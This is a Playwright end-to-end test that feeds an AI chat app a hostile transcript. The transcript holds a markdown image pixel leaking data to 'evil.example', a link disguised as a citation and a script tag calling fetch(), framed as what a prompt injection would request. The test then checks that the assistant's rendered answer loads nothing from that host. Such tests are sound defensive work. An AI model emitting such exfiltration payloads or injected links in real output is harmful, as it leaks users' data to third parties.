import type { BrowserContext, Page } from '@playwright/test';
import { collectConsoleErrors, expect, test } from './fixtures';
import type { AppServer } from './server';
import { signUpOnboarded } from './support/onboarding';

const FOREIGN_HOST = 'evil.example';

/**
 * A transcript as a stranger's captions may carry it: an image that would call another site (with the
 * business in its address, as a prompt injection would ask), a link dressed as a citation, and a script.
 */
const HOSTILE_TRANSCRIPT = [
  '0:00',
  `Retention keeps a bakery alive ![chart](https://${FOREIGN_HOST}/pixel.png?leak=bakery) so watch [01:15](https://${FOREIGN_HOST}/cite) today.`,
  '0:20',
  `Referrals reward both sides <script>fetch("https://${FOREIGN_HOST}/script")</script> and cut acquisition costs.`,
].join('\n');

/** Every request the context's pages send to the foreign host (answered locally, never sent out). */
async function watchForeignRequests(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.route(`**://${FOREIGN_HOST}/**`, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  context.on('request', (request) => {
    if (new URL(request.url()).host === FOREIGN_HOST) seen.push(request.url());
  });
  return seen;
}

async function expectSafeAnswer(page: Page) {
  const answer = page.getByRole('article', { name: 'Assistant message' }).first();
  await expect(answer).toContainText('Retention keeps a bakery alive');
  await expect(answer.locator('img')).toHaveCount(0);
  await expect(answer.getByRole('link', { name: `Image: chart (${FOREIGN_HOST})` })).toHaveAttribute(
    'href',
    `https://${FOREIGN_HOST}/pixel.png?leak=bakery`,
  );
  // The disguised citation reads as a plain link to where it really goes, not as a citation.
  const disguised = answer.getByRole('link', { name: `01:15 (${FOREIGN_HOST})` });
  await expect(disguised).toBeVisible();
  await expect(disguised).not.toHaveClass(/text-primary/);
  await expect(answer.locator('script')).toHaveCount(0);
}

async function createChat(page: Page, server: AppServer): Promise<string> {
  const response = await page.request.post(`${server.baseURL}/api/chats`, {
    data: { source: 'manual', transcript: HOSTILE_TRANSCRIPT },
    headers: { origin: server.baseURL },
  });
  expect(response.status()).toBe(201);
  return (await response.json()).id;
}

test('an answer quoting a hostile transcript loads nothing from another site, for its owner and a super admin', async ({
  page,
  server,
  browser,
}) => {
  const seen = await watchForeignRequests(page.context());
  await signUpOnboarded(page, server);
  const id = await createChat(page, server);
  await page.goto(`/chat/${id}`);
  await expect(page.getByRole('article', { name: 'Assistant message' })).toContainText(/Tokens: \d+/, {
    timeout: 30_000,
  });
  await expectSafeAnswer(page);

  const staffContext = await browser.newContext({ baseURL: server.baseURL });
  const staffSeen = await watchForeignRequests(staffContext);
  const staff = await staffContext.newPage();
  const staffErrors = collectConsoleErrors(staff);
  await signUpOnboarded(staff, server, { superAdmin: true });
  await staff.goto(`/chat/${id}?ia=1`);
  await expectSafeAnswer(staff);
  await staff.waitForLoadState('networkidle');
  await staffContext.close();
  expect(staffErrors, 'console errors in the read-only view').toEqual([]);

  await page.waitForLoadState('networkidle');
  expect([...seen, ...staffSeen]).toEqual([]);
});
